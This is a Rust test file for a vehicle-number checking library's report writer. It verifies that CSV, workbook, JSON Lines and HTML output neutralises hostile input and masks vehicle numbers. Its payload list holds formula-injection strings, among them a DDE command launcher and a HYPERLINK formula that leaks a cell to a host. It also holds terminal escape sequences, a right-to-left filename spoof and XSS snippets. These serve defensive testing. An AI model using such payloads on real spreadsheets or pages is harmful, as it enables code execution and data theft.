//! Reports as the programs see them that open them: CSV by the csv crate, workbooks
//! by calamine, JSON by serde_json, and lists by this crate's own reader.

use std::collections::BTreeSet;

use calamine::{Data, Reader as _, Xlsx};
use finkit_core::{FinRecord, RegisteredAt, Vin, ZoneRule};
use finkit_tables::explain::{Explainer, Lang, steers};
use finkit_tables::write::formula::unguard;
use finkit_tables::write::{
    CsvStyle, CsvWriter, HtmlWriter, OtherEntry, Outcome, PageLimits, ReportFormat, ReportHead,
    ReportKind, ReportWriter, Reported, ResultRow, Summary, Whose, WriteErrorKind,
};
use finkit_tables::{
    ColumnRef, Encoding, Fault, FaultKind, Field, ListOptions, Severity, Source, read,
};

const FIN: &str = "WVWZZZE1ZMP000001";

/// What foreign text can hold that must stay text.
const PAYLOADS: [&str; 22] = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠A1",
    "x;=1+1",
    "x,=1+1",
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://example.test/?\"&A1,\"x\")",
    "\u{1b}]52;c;b3duZWQ=\u{7}",
    "\u{1b}[2J\u{9b}31m",
    "\u{202e}xslx.exe\u{2066}",
    "<script>owned=1</script>",
    "\"><img src=x onerror=owned=1>",
    "' onmouseover='owned=1",
    "_x0041_ _x001B_",
];

/// Harmless values that must arrive as they are.
const HARMLESS: [&str; 9] = [
    "Größe & Söhne \"GmbH\"",
    "zwei\nZeilen",
    "-12,50",
    "100,-",
    "+4312345",
    "0012345",
    "12345678901234567890",
    "1E5",
    "2026-06-01",
];

fn head(lang: Lang, carried: &[&str]) -> ReportHead {
    ReportHead {
        lang,
        kind: ReportKind::Check,
        list_name: "Flotte.csv".to_owned(),
        job: None,
        created_at: "2026-11-21T10:00:00+01:00".parse().unwrap(),
        show_fins: true,
        notes: Vec::new(),
        carried: carried.iter().map(ToString::to_string).collect(),
    }
}

fn sound(number: u64, fin: &str, carried: &[&str]) -> ResultRow {
    let day = |text: &str| Reported::Known(text.parse().unwrap());
    ResultRow {
        fin: Reported::Known(fin.parse().unwrap()),
        start: day("2026-01-01"),
        end: day("2026-12-31"),
        registered_at: Reported::Known(
            RegisteredAt::parse("2026-01-15T10:22:33", ZoneRule::Vienna).unwrap(),
        ),
        carried: carried.iter().map(ToString::to_string).collect(),
        ..ResultRow::new(number, Outcome::Sound)
    }
}

fn written(format: ReportFormat, head: ReportHead, rows: &[ResultRow]) -> (Vec<u8>, Summary) {
    let style = CsvStyle::excel(head.lang);
    let mut report = ReportWriter::new(Vec::new(), format, head, style).unwrap();
    for row in rows {
        report.row(row).unwrap();
    }
    report.finish().unwrap()
}

fn csv_cells(bytes: &[u8], delimiter: u8) -> Vec<Vec<String>> {
    csv::ReaderBuilder::new()
        .delimiter(delimiter)
        .has_headers(false)
        .from_reader(bytes)
        .records()
        .map(|record| record.unwrap().iter().map(str::to_owned).collect())
        .collect()
}

fn all_styles() -> impl Iterator<Item = CsvStyle> {
    let encodings = [
        Encoding::Utf8,
        Encoding::Windows1252,
        Encoding::Utf16Le,
        Encoding::Utf16Be,
    ];
    encodings.into_iter().flat_map(|encoding| {
        [b';', b',', b'\t', b'|']
            .into_iter()
            .map(move |delimiter| CsvStyle {
                delimiter,
                encoding,
                byte_order_mark: encoding != Encoding::Windows1252,
                crlf: true,
            })
    })
}

#[test]
fn csv_reads_back_equal_in_every_delimiter_and_encoding() {
    for style in all_styles() {
        let head = head(Lang::De, &["Größe", "Zeile", "", "=1+1"]);
        let mut report = CsvWriter::new(Vec::new(), head, style).unwrap();
        for (number, value) in (2..).zip(HARMLESS) {
            report
                .row(&sound(number, FIN, &[value, value, "", "x"]))
                .unwrap();
        }
        let (bytes, summary) = report.finish().unwrap();
        assert_eq!(summary.replaced, 0);
        let encoding = encoding_rs::Encoding::for_label(style.encoding.code().as_bytes()).unwrap();
        let (text, _, malformed) = encoding.decode(&bytes);
        assert!(!malformed);
        let cells = csv_cells(text.as_bytes(), style.delimiter);
        assert_eq!(cells[0][11..], ["Größe", "Zeile (2)", "Spalte 3", "'=1+1"]);
        for (row, value) in cells[1..].iter().zip(HARMLESS) {
            assert_eq!(row[1], FIN);
            assert_eq!(row[11..13], [value, value]);
        }
    }
}

#[test]
fn csv_begins_no_cell_with_a_formula_and_gives_the_values_back() {
    let columns: Vec<String> = (0..PAYLOADS.len()).map(|i| format!("c{i}")).collect();
    let columns: Vec<&str> = columns.iter().map(String::as_str).collect();
    let (bytes, _) = written(
        ReportFormat::Csv,
        head(Lang::De, &columns),
        &[sound(2, FIN, &PAYLOADS)],
    );
    let text = String::from_utf8(bytes).unwrap();
    assert!(
        !text
            .chars()
            .any(|c| steers(c) && !matches!(c, '\r' | '\n' | '\t'))
    );
    let cells = csv_cells(text.as_bytes(), b';');
    for (cell, payload) in cells[1][11..].iter().zip(PAYLOADS) {
        assert!(
            !cell.starts_with(['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠']),
            "{cell:?}"
        );
        if !payload
            .chars()
            .any(|c| steers(c) && !matches!(c, '\r' | '\n' | '\t'))
        {
            assert_eq!(unguard(cell), payload);
        }
    }
}

#[test]
fn report_as_csv_is_a_list_that_reads_back_to_the_same_records() {
    let fins = [FIN, "TMBJB9NY5MF000002", "VF1AG000164000004"];
    for lang in Lang::ALL {
        let rows: Vec<ResultRow> = (2..)
            .zip(fins)
            .map(|(number, fin)| sound(number, fin, &["K-1"]))
            .collect();
        let (bytes, _) = written(ReportFormat::Csv, head(lang, &["Kundennummer"]), &rows);
        let list = read(Source::bytes(bytes), &ListOptions::default()).unwrap();
        let records: Vec<FinRecord> = list.records().map(|(_, record)| record).collect();
        let expected: Vec<FinRecord> = rows
            .iter()
            .map(|row| FinRecord {
                fin: *row.fin.known().unwrap(),
                period: row.period().unwrap(),
                registered_at: *row.registered_at.known().unwrap(),
            })
            .collect();
        assert_eq!(records, expected, "{lang}");
    }
}

#[test]
fn workbook_holds_text_only_with_fins_as_text_and_days_as_days() {
    let columns: Vec<String> = (0..PAYLOADS.len()).map(|i| format!("c{i}")).collect();
    let columns: Vec<&str> = columns.iter().map(String::as_str).collect();
    let mut faulty = sound(3, FIN, &PAYLOADS);
    faulty.outcome = Outcome::Faulty;
    faulty.fin = Reported::AsTyped("12345678901234567".to_owned());
    faulty.end = Reported::AsTyped("=1+1".to_owned());
    let rows = [sound(2, FIN, &PAYLOADS), faulty];
    let (bytes, summary) = written(ReportFormat::Xlsx, head(Lang::De, &columns), &rows);
    assert_eq!(summary.shortened, 0);
    let mut book: Xlsx<_> = Xlsx::new(std::io::Cursor::new(bytes)).unwrap();
    assert_eq!(
        book.sheet_names(),
        ["Übersicht", "Fehlerhaft", "In Ordnung"]
    );
    for name in book.sheet_names() {
        let formulas = book.worksheet_formula(&name).unwrap();
        assert!(
            formulas
                .used_cells()
                .all(|(_, _, formula)| formula.is_empty()),
            "{name}"
        );
    }
    let sound = book.worksheet_range("In Ordnung").unwrap();
    assert_eq!(sound.get((0, 1)), Some(&Data::String("FIN".into())));
    assert_eq!(sound.get((1, 0)), Some(&Data::Float(2.0)));
    assert_eq!(sound.get((1, 1)), Some(&Data::String(FIN.into())));
    assert!(matches!(sound.get((1, 2)), Some(Data::DateTime(day)) if day.as_f64() == 46023.0));
    for (column, payload) in (11..).zip(PAYLOADS) {
        let Some(Data::String(cell)) = sound.get((1, column)) else {
            panic!("{payload:?}")
        };
        assert!(
            !cell
                .chars()
                .any(|c| steers(c) && !matches!(c, '\r' | '\n' | '\t'))
        );
        if !payload.chars().any(steers) {
            assert_eq!(cell, payload);
        }
    }
    let faulty = book.worksheet_range("Fehlerhaft").unwrap();
    assert_eq!(
        faulty.get((1, 1)),
        Some(&Data::String("12345678901234567".into()))
    );
    assert_eq!(faulty.get((1, 3)), Some(&Data::String("=1+1".into())));
}

#[test]
fn workbook_says_where_a_value_was_too_long_for_a_cell() {
    let long = "ä😀".repeat(20_000);
    let (bytes, summary) = written(
        ReportFormat::Xlsx,
        head(Lang::De, &["Notiz"]),
        &[sound(2, FIN, &[&long])],
    );
    assert_eq!(summary.shortened, 1);
    let mut book: Xlsx<_> = Xlsx::new(std::io::Cursor::new(bytes)).unwrap();
    let range = book.worksheet_range("In Ordnung").unwrap();
    let Some(Data::String(cell)) = range.get((1, 11)) else {
        panic!("no text")
    };
    assert!(
        cell.ends_with("… [gekürzt, 40000 Zeichen]"),
        "{}",
        &cell[cell.len() - 60..]
    );
    assert!(cell.encode_utf16().count() <= 32_767);
}

#[test]
fn json_lines_give_foreign_text_back_unchanged_and_hold_no_bare_controls() {
    let columns: Vec<String> = (0..PAYLOADS.len()).map(|i| format!("c{i}")).collect();
    let columns: Vec<&str> = columns.iter().map(String::as_str).collect();
    let (bytes, _) = written(
        ReportFormat::JsonLines,
        head(Lang::De, &columns),
        &[sound(2, FIN, &PAYLOADS)],
    );
    let text = String::from_utf8(bytes).unwrap();
    assert!(!text.chars().any(|c| steers(c) && c != '\n'));
    let lines: Vec<serde_json::Value> = text
        .lines()
        .map(|line| serde_json::from_str(line).unwrap())
        .collect();
    let types: Vec<&str> = lines
        .iter()
        .map(|line| line["type"].as_str().unwrap())
        .collect();
    assert_eq!(types, ["head", "row", "totals"]);
    assert!(lines.iter().all(|line| line["schema"] == 1));
    assert_eq!(lines[1]["fin"], FIN);
    assert_eq!(lines[1]["registered_at"], "2026-01-15T10:22:33+01:00");
    assert_eq!(lines[1]["carried"], serde_json::json!(PAYLOADS));
    assert_eq!(lines[2]["outcomes"]["sound"], 1);
}

/// Names of all tags and attributes of a page, style and script left out.
fn tags_and_attributes(page: &str) -> (BTreeSet<String>, BTreeSet<String>, usize) {
    let (mut tags, mut attributes, mut scripts) = (BTreeSet::new(), BTreeSet::new(), 0);
    let mut rest = page;
    while let Some(at) = rest.find('<') {
        rest = &rest[at + 1..];
        let tag: String = rest
            .chars()
            .take_while(|c| !c.is_whitespace() && *c != '>')
            .collect();
        let mut inside = &rest[tag.len()..];
        let mut name = String::new();
        loop {
            let c = inside.chars().next().expect("an open tag at the end");
            inside = &inside[c.len_utf8()..];
            match c {
                '>' => break,
                '"' => inside = &inside[inside.find('"').expect("an open quote") + 1..],
                '=' | ' ' | '\n' | '/' => {
                    if !name.is_empty() {
                        attributes.insert(std::mem::take(&mut name));
                    }
                }
                c => name.push(c),
            }
        }
        rest = inside;
        for skipped in ["style", "script"] {
            if tag == skipped {
                scripts += usize::from(tag == "script");
                rest = &rest[rest.find(&format!("</{skipped}>")).expect("an end tag")..];
            }
        }
        tags.insert(tag.trim_start_matches('/').trim_end_matches('/').to_owned());
    }
    (tags, attributes, scripts)
}

fn hostile_page() -> String {
    let mut head = head(Lang::De, &PAYLOADS);
    head.list_name = PAYLOADS.concat();
    head.job = Some(PAYLOADS.concat());
    head.notes = PAYLOADS.iter().map(ToString::to_string).collect();
    let mut explainer = Explainer::new(Lang::De, true);
    let mut report = HtmlWriter::new(Vec::new(), head);
    for (number, payload) in (2..).zip(PAYLOADS) {
        let mut row = sound(number, FIN, &PAYLOADS);
        row.outcome = Outcome::OverlapInList;
        row.reason = payload.to_owned();
        report.row(&row).unwrap();
        let mut row = ResultRow::new(number + 100, Outcome::Faulty);
        row.fin = Reported::AsTyped(payload.to_owned());
        row.start = Reported::AsTyped(payload.to_owned());
        row.registered_at = Reported::AsTyped(payload.to_owned());
        row.findings.push(explainer.explain(&Fault {
            row: number,
            column: Some(ColumnRef {
                index: 1,
                header: Some(payload.into()),
            }),
            value: payload.to_owned(),
            kind: FaultKind::CellError {
                field: Field::Start,
            },
            proposal: Some(payload.to_owned()),
            severity: Severity::Fault,
        }));
        report.row(&row).unwrap();
    }
    String::from_utf8(report.finish().unwrap().0).unwrap()
}

#[test]
fn markup_in_foreign_text_stays_text() {
    let (tags, attributes, scripts) = tags_and_attributes(&hostile_page());
    let plain = HtmlWriter::new(Vec::new(), head(Lang::De, &[]))
        .finish()
        .unwrap()
        .0;
    let (plain_tags, _, _) = tags_and_attributes(std::str::from_utf8(&plain).unwrap());
    assert_eq!(scripts, 1);
    assert!(plain_tags.is_subset(&tags));
    for foreign in ["img", "iframe", "object", "form", "base"] {
        assert!(!tags.contains(foreign), "{foreign}");
    }
    assert!(
        attributes
            .iter()
            .all(|name| !name.starts_with("on") && *name != "style" && *name != "src"),
        "{attributes:?}"
    );
}

#[test]
fn page_shows_no_steering_characters() {
    assert!(
        !hostile_page()
            .chars()
            .any(|c| steers(c) && !matches!(c, '\n' | '\t'))
    );
}

#[test]
fn page_names_no_other_place() {
    let row = sound(2, FIN, &[]);
    let (bytes, _) = written(ReportFormat::Html, head(Lang::En, &[]), &[row]);
    let page = String::from_utf8(bytes).unwrap();
    assert!(!page.contains("://") && !page.contains("\"//"));
    assert!(page.contains("default-src &#39;none&#39;"));
}

#[test]
fn masked_report_never_shows_a_fin_in_any_format() {
    let other = "TMBJB9NY5MF000002";
    let mut row = sound(2, FIN, &[FIN, "Notiz: tmbjb9ny5mf000002 verkauft"]);
    row.outcome = Outcome::Rejected;
    row.reason = format!("FINcheck nennt {other}");
    row.end = Reported::AsTyped(other.to_owned());
    let error = Vin::parse("WVWZZZE1ZMPO00001").unwrap_err();
    row.findings
        .push(Explainer::new(Lang::De, false).explain(&Fault {
            row: 2,
            column: None,
            value: "WVWZZZE1ZMPO00001".to_owned(),
            kind: FaultKind::Vin(error.faults()[0]),
            proposal: error.proposal().map(str::to_owned),
            severity: Severity::Fault,
        }));
    for format in ReportFormat::ALL {
        let mut head = head(Lang::De, &["Kopie", "Notiz"]);
        head.show_fins = false;
        let (bytes, _) = written(format, head, std::slice::from_ref(&row));
        let text = match format {
            ReportFormat::Xlsx => {
                let mut book: Xlsx<_> = Xlsx::new(std::io::Cursor::new(bytes)).unwrap();
                format!("{:?}", book.worksheets())
            }
            _ => String::from_utf8(bytes).unwrap(),
        }
        .to_uppercase();
        assert!(text.contains("WVW…0001"), "{format}");
        for secret in [FIN, other, "WVWZZZE1ZMPO00001"] {
            assert!(!text.contains(secret), "{format} shows {secret}");
        }
    }
}

#[test]
fn page_counts_rows_that_it_does_not_list() {
    let limits = PageLimits {
        rows: 3,
        calendars: 1,
    };
    let mut report = HtmlWriter::with_limits(Vec::new(), head(Lang::De, &[]), limits);
    for number in 2..12 {
        let mut row = sound(number, FIN, &[]);
        row.outcome = Outcome::Overlapping;
        row.fin = Reported::Known(format!("WVWZZZE1ZMP0000{number:02}").parse().unwrap());
        row.others = vec![OtherEntry {
            whose: Whose::Foreign,
            period: "2026-02-01/2026-02-28".parse().unwrap(),
            registered_at: None,
        }];
        report.row(&row).unwrap();
    }
    let (bytes, summary) = report.finish().unwrap();
    let page = String::from_utf8(bytes).unwrap();
    assert_eq!(summary.omitted, 7);
    assert_eq!(page.matches("<figure").count(), 1);
    assert!(page.contains("Und 7 weitere;"));
    assert!(page.contains("Und 9 weitere;"));
    assert!(page.contains("10 Zeilen"));
}

#[test]
fn calendar_tells_periods_apart_by_word_and_pattern_and_not_by_colour_alone() {
    let mut row = sound(2, FIN, &[]);
    row.outcome = Outcome::Overlapping;
    let entry = |whose, period: &str| OtherEntry {
        whose,
        period: period.parse().unwrap(),
        registered_at: None,
    };
    row.others = vec![
        entry(Whose::Foreign, "2026-02-01/2026-02-28"),
        entry(Whose::Own, "2026-04-01/2026-04-30"),
        entry(Whose::Unattributed, "2026-06-01/2026-06-30"),
    ];
    let (bytes, _) = written(ReportFormat::Html, head(Lang::En, &[]), &[row]);
    let page = String::from_utf8(bytes).unwrap();
    for (words, class) in [
        ("Row 2", "b-list"),
        ("Entry of another company", "b-foreign"),
        ("Own earlier entry", "b-own"),
        ("Entry in FINcheck", "b-someone"),
        ("Taken more than once", "b-both"),
    ] {
        assert!(page.contains(&format!("<b>{words}</b>")), "{words}");
        assert!(page.contains(class), "{class}");
    }
    for pattern in ["p-own", "p-foreign", "p-someone", "p-both"] {
        assert!(page.contains(&format!("<pattern id=\"{pattern}\"")));
        assert!(page.contains(&format!("url(#{pattern})")));
    }
}

#[test]
fn empty_report_opens_in_every_format() {
    for format in ReportFormat::ALL {
        let (bytes, summary) = written(format, head(Lang::De, &[]), &[]);
        assert_eq!(summary.tally.total(), 0);
        match format {
            ReportFormat::Xlsx => {
                let book: Xlsx<_> = Xlsx::new(std::io::Cursor::new(bytes)).unwrap();
                assert_eq!(book.sheet_names(), ["Übersicht"]);
            }
            ReportFormat::Csv => assert_eq!(csv_cells(&bytes, b';').len(), 1),
            ReportFormat::JsonLines => assert_eq!(bytes.iter().filter(|b| **b == b'\n').count(), 2),
            ReportFormat::Html => {
                assert!(bytes.ends_with(b"</html>\n") || bytes.ends_with(b"</html>"));
            }
        }
    }
}

#[cfg(target_os = "linux")]
#[test]
fn full_disk_is_an_error_in_every_format_and_no_panic() {
    for format in ReportFormat::ALL {
        let full = std::fs::OpenOptions::new()
            .write(true)
            .open("/dev/full")
            .unwrap();
        let style = CsvStyle::excel(Lang::De);
        let attempt = || {
            let mut report = ReportWriter::new(full, format, head(Lang::De, &[]), style)?;
            for number in 2..2000 {
                report.row(&sound(number, FIN, &[]))?;
            }
            report.finish().map(drop)
        };
        let error = attempt().unwrap_err();
        assert_eq!(
            error.io_kind(),
            Some(std::io::ErrorKind::StorageFull),
            "{format}: {error}"
        );
    }
}

#[test]
fn row_with_a_wrong_number_of_carried_values_is_refused_in_every_format() {
    for format in ReportFormat::ALL {
        let head = head(Lang::De, &["a", "b"]);
        let mut report =
            ReportWriter::new(Vec::new(), format, head, CsvStyle::excel(Lang::De)).unwrap();
        let error = report.row(&sound(7, FIN, &["only one"])).unwrap_err();
        assert_eq!(error.kind(), WriteErrorKind::Shape);
        assert!(!error.to_string().contains(FIN));
        report.row(&sound(8, FIN, &["one", "two"])).unwrap();
        assert_eq!(report.finish().unwrap().1.tally.total(), 1);
    }
}

proptest::proptest! {
    #[test]
    fn any_carried_value_survives_csv_and_json(value in "\\PC{0,40}|[=+@'\";,|\\t\\n -]{0,8}") {
        let row = sound(2, FIN, &[&value]);
        let (bytes, _) = written(ReportFormat::JsonLines, head(Lang::De, &["Wert"]), std::slice::from_ref(&row));
        let line = String::from_utf8(bytes).unwrap();
        let line = line.lines().nth(1).unwrap();
        let json: serde_json::Value = serde_json::from_str(line).unwrap();
        proptest::prop_assert_eq!(&json["carried"][0], &serde_json::json!(value));
        // What steers a terminal is shown by name in a CSV file, so it does not come back.
        if !value.chars().any(|c| steers(c) && !matches!(c, '\r' | '\n' | '\t')) {
            let (bytes, _) = written(ReportFormat::Csv, head(Lang::De, &["Wert"]), &[row]);
            let cells = csv_cells(&bytes, b';');
            proptest::prop_assert_eq!(unguard(&cells[1][11]), value);
        }
    }
}
